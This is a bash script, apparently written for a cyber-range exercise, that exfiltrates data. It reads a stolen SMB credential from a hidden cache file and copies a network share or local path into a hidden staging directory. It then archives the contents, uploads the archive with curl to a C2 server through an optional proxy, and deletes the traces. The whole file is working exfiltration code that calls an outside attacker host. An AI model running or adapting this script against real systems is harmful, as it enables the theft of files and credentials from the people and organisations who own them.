#!/usr/bin/env bash
# (Enshu exercise) Copies a share with the stolen account, packs it and sends it to the C2 through the proxy;
# prints how many files and bytes were sent.
# Environment: OWNER, SOURCE (//host/share or a path), C2, PROXY (URL or empty), NAME (archive name).
# Run on a range host as `env NAME=value... bash -c SCRIPT`: values arrive only as environment variables.
set -e
owner="${OWNER:-root}"
home=$(getent passwd "$owner" | cut -d: -f6)
stage=$(mktemp -d /tmp/.s.XXXXXX)
cred=$(cat "${home:-/tmp}/.cache/.c" 2>/dev/null || true)
if [[ "$SOURCE" == //* ]]; then
  if [ -n "$cred" ]; then auth=(-U "$cred"); else auth=(-N); fi
  (cd "$stage" && smbclient "$SOURCE" "${auth[@]}" -c 'prompt OFF; recurse ON; mget *' > /dev/null 2>&1) || true
else
  cp -r "$SOURCE" "$stage/" 2>/dev/null || true
fi
archive="/tmp/.enshu-$(date +%s).tgz"
tar czf "$archive" -C "$stage" .
curl -s -o /dev/null -m 60 ${PROXY:+-x "$PROXY"} --data-binary @"$archive" "http://$C2/upload?name=$NAME"
echo "$(find "$stage" -type f | wc -l) files, $(stat -c %s "$archive") bytes"
rm -rf "$stage" "$archive"
